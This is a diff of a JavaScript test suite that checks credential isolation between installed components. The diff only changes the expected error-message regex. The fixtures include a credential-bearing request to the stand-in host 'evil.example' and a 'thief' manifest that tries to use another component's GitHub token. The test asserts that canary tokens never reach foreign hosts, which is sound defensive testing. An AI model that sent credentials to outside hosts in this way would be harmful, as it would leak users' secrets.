@@ -331,7 +331,7 @@ describe("an installed component", () => {
 		const request = { url: "https://evil.example/", use_credential: true };
 		await tally(t, "shadowed auth recipes", async (count) => {
 			const ran = await world.run(OWNER, one({ component: "shadow", request, credential: "gh" }));
-			count(/takes only shadow\.github_token/.test(ran.text), ran.text);
+			count(/but shadow\.github_token is required here/.test(ran.text), ran.text);
 			// Another component's auth recipe has a dot in its name, which a manifest cannot declare.
 			for (const manifest of [
 				caller("thief", { hosts, credentials: ["shadow.github_token"], examples: recorded(hosts) }),
@@ -353,7 +353,7 @@ describe("an installed component", () => {
 			const fields = { token: "canary-of-the-second-1122334455" };
 			await world.put(OWNER, "/credentials/second", { auth_recipe: "second.github_token", fields });
 			const other = await world.run(OWNER, one({ component: "shadow", request, credential: "second" }));
-			count(/takes only shadow\.github_token/.test(other.text), other.text);
+			count(/but shadow\.github_token is required here/.test(other.text), other.text);
 		});
 		const foreign = world.sent.filter(({ host }) => host !== "api.github.com");
 		assert.ok(!foreign.some(({ text }) => text.includes("canary-")));
